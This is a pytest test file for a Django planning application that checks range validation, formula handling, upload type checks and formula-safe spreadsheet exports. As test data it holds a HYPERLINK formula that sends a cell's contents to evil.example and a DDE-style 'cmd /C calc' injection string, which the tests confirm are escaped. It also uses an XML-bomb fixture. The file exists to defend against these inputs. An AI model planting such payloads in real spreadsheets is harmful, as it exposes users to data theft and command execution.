"""Issue 21 items 2, 3, 8 and 5: value ranges, one formula rule, formula-safe exports, and
document files served only through a scoped view."""

from __future__ import annotations

import io
from decimal import Decimal

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client, override_settings
from django.urls import reverse
from openpyxl import load_workbook

from ppsp.consultation.models import Comment
from ppsp.consultation.services.moderation import comments_moderate
from ppsp.core.safe_cells import safe_cell, safe_row
from ppsp.core.tabular import read_table
from ppsp.profiles.columns import BY_KEY, COLUMNS
from ppsp.profiles.models import DesaProfile
from ppsp.profiles.services import profile_save
from ppsp.profiles.templatetags.profiles_tags import cell_show
from ppsp.regions.models import Region
from tests.conftest import OWN_DESA, Cast
from tests.consultation.support import consultation_in, post_comment
from tests.core.upload_support import rewrite, xlsx

pytestmark = pytest.mark.django_db
PAYLOAD = '=HYPERLINK("http://evil.example/?x="&A1,"Klik untuk detail")'


def _form2(client: Client, value: object) -> bytes:
    profile_save(
        desa=Region.objects.get(code=OWN_DESA),
        year=2025,
        values={"penduduk": 5000, "kk": 1250, "luas_administratif": 250.0},
        by=None,
    )
    exported = client.get(reverse("profiles:export", kwargs={"code": "15.07", "year": 2025}))
    book = load_workbook(io.BytesIO(exported.content))
    sheet = book.active
    assert sheet is not None
    headers = [c.value for c in sheet[1]]
    row = next(r for r in sheet.iter_rows(min_row=2) if r[2].value == OWN_DESA)
    row[headers.index("Luas administratif (ha)")].value = value  # type: ignore[arg-type]
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def test_it_rejects_form2_with_1e30_naming_file_row_and_column(cast: Cast) -> None:
    client = Client()
    client.force_login(cast.pokja_kabkota)
    content = _form2(client, 1e30)
    before = DesaProfile.objects.filter(year=2026).count()
    response = client.post(
        reverse("profiles:import", kwargs={"code": "15.07", "year": 2026}),
        {"file": SimpleUploadedFile("form2.xlsx", content)},
        follow=True,
    )
    page = response.content.decode()
    assert response.status_code == 200
    assert "form2.xlsx baris" in page and "kolom &#x27;Luas administratif (ha)&#x27;" in page
    assert "terlalu besar" in page
    assert DesaProfile.objects.filter(year=2026).count() == before


def test_it_shows_a_huge_value_stored_before_the_range_check_without_failing(
    cast: Cast,
) -> None:
    column = BY_KEY["luas_administratif"]
    assert cell_show(1e30, column) == "1e+30"
    assert cell_show(Decimal("1E+40"), column) == "1e+40"
    assert cell_show(float("inf"), column) == "inf"
    assert cell_show(1234.56, column) == "1.234,6"
    DesaProfile.objects.create(
        desa=Region.objects.get(code=OWN_DESA), year=2024, luas_administratif=1e30
    )
    client = Client()
    client.force_login(cast.pmu)
    response = client.get(reverse("profiles:kabkota", args=["15.07"]) + "?tahun=2024")
    assert response.status_code == 200


def test_it_refuses_negative_counts_in_form2() -> None:
    from ppsp.profiles.columns import parse_cell

    with pytest.raises(ValueError, match="tidak boleh negatif"):
        parse_cell(BY_KEY["kk"], -3)
    with pytest.raises(ValueError, match="terlalu besar"):
        parse_cell(BY_KEY["penduduk"], "99999999999")
    assert parse_cell(BY_KEY["growth_pct"], -1.5) == -1.5
    assert len(COLUMNS) > 10


def _cached(formula: str, cached: str, kind: str = "") -> bytes:
    """An XLSX whose B2 holds `formula` with a stored value, as Excel saves it."""
    content = xlsx([["kode", "nilai"], ["15.07", 7]])
    attr = f' t="{kind}"' if kind else ""
    return rewrite(
        content,
        "xl/worksheets/sheet1.xml",
        lambda text: text.replace(
            '<c r="B2" t="n"><v>7</v></c>', f'<c r="B2"{attr}><f>{formula}</f><v>{cached}</v></c>'
        ),
    )


def test_it_reads_a_formula_by_its_stored_value_and_rejects_errors() -> None:
    assert list(read_table("a.xlsx", _cached("SUM(1,2)", "3"))) == [["kode", "nilai"], ["15.07", 3]]
    with pytest.raises(ValueError, match="baris 2, kolom B: rumus '=1/0' menghasilkan galat"):
        list(read_table("a.xlsx", _cached("1/0", "#DIV/0!", "e")))
    with pytest.raises(ValueError, match="baris 2, kolom B: sel berisi rumus '=1/0\\+SUM"):
        list(read_table("a.xlsx", xlsx([["kode", "nilai"], ["15.07", "=1/0+SUM(A1:A9)"]])))


def test_it_escapes_text_that_would_be_a_formula_and_keeps_numbers() -> None:
    assert safe_row([PAYLOAD, "+1+cmd|' /C calc'!A0", "@SUM(A1)", "\tx", "\rx"]) == [
        "'" + PAYLOAD,
        "'+1+cmd|' /C calc'!A0",
        "'@SUM(A1)",
        "'\tx",
        "'\rx",
    ]
    assert safe_row([-5, -2.5, Decimal("-3"), None, "-", "-12,5", "Dinas PU"]) == [
        -5,
        -2.5,
        Decimal("-3"),
        None,
        "-",
        "-12,5",
        "Dinas PU",
    ]
    assert safe_cell("-A1+B1") == "'-A1+B1"


def test_it_exports_an_approved_formula_comment_as_plain_text(cast: Cast) -> None:
    consultation = consultation_in("15.07")
    post_comment(Client(), consultation.pk, PAYLOAD)
    comment = Comment.objects.get(consultation=consultation, body=PAYLOAD)
    comments_moderate(
        consultation=consultation, ids=[comment.pk], action="setujui", by=cast.pokja_kabkota
    )
    staff = Client()
    staff.force_login(cast.pokja_kabkota)
    for client, url in (
        (Client(), reverse("consultation:public_matrix", args=[consultation.pk])),
        (staff, reverse("consultation:tanggapan_xlsx", args=[consultation.pk])),
    ):
        response = client.get(url)
        assert response.status_code == 200
        sheet = load_workbook(io.BytesIO(response.content)).active
        assert sheet is not None
        cells = [c for row in sheet.iter_rows() for c in row if PAYLOAD in str(c.value or "")]
        assert len(cells) == 1
        assert cells[0].data_type == "s" and cells[0].value == "'" + PAYLOAD
        numbers = [c.value for c in sheet["A"][4:]]
        assert numbers == [1]  # the row number stays a number


def _version_pk() -> int:
    from tests.documents.matrix import document_version

    return int(document_version("15.07")["pk"])  # type: ignore[call-overload]


def test_it_stores_a_document_by_its_content_and_serves_it_in_scope_only(cast: Cast) -> None:
    from ppsp.documents.models import DocumentFile

    client = Client()
    client.force_login(cast.pokja_kabkota)
    pk = _version_pk()
    url = reverse("documents:file_upload", kwargs={"pk": pk})
    exe = client.post(url, {"file": SimpleUploadedFile("ssk.pdf", b"MZ\x90\x00" * 99)}, follow=True)
    assert "isi berkas bukan PDF" in exe.content.decode()
    pdf = b"%PDF-1.7\n" + b"x" * 100
    client.post(url, {"file": SimpleUploadedFile("Draf SSK.pdf", pdf, "application/pdf")})
    stored = DocumentFile.objects.get(version_id=pk)
    assert stored.file.name.endswith(".pdf")
    link = reverse("documents:file", args=[stored.pk])
    assert link in client.get(reverse("documents:version", args=[pk])).content.decode()
    response = client.get(link)
    assert response.status_code == 200 and response.content == pdf
    assert response["Content-Type"] == "application/pdf"
    outsider = Client()
    outsider.force_login(cast.pokja_provinsi)
    assert outsider.get(link).status_code == 200  # the province sees its kab/kota
    assert Client().get(link).status_code == 302  # anonymous: to the login page
    assert Client().get("/media/" + stored.file.name).status_code == 404
    with override_settings(PPSP_FILE_SERVING="x-accel", PPSP_X_ACCEL_PREFIX="/_files/"):
        accel = client.get(link)
    assert accel["X-Accel-Redirect"] == "/_files/" + stored.file.name.replace(" ", "%20")
    assert accel.content == b""


def test_it_bounds_sector_figures_and_monev_budgets() -> None:
    from ppsp.exchange.adapters import parse_number
    from ppsp.monev.forms import RowValueForm

    assert parse_number("1e30") is None and parse_number("1.234,5") == Decimal("1234.5")
    form = RowValueForm(data={"budget": "1" + "0" * 30, "work_status": "berjalan"})
    assert not form.is_valid() and "budget" in form.errors


def test_it_parses_xlsx_through_defusedxml_even_past_the_dtd_prefilter(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    import re

    import openpyxl

    from ppsp.core import uploads
    from tests.core.upload_support import xml_bomb

    assert openpyxl.DEFUSEDXML is True  # openpyxl picks defusedxml up when it is installed
    monkeypatch.setattr(uploads, "_DTD", re.compile(rb"(?!)"))  # the prefilter never matches
    with pytest.raises(ValueError, match="berkas XLSX tidak dapat dibaca"):
        list(read_table("bom.xlsx", xml_bomb()))


def test_it_keeps_old_word_files_only_where_old_documents_are_archived() -> None:
    from ppsp.core.uploads import DOCX, OLE, PDF, UploadRejected, check_upload

    old_doc = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 512
    assert check_upload("ssk-2012.doc", old_doc, kinds=(PDF, DOCX, OLE)) == OLE
    with pytest.raises(UploadRejected, match="format lama"):
        check_upload("ssk-2012.doc", old_doc, kinds=(PDF, DOCX))
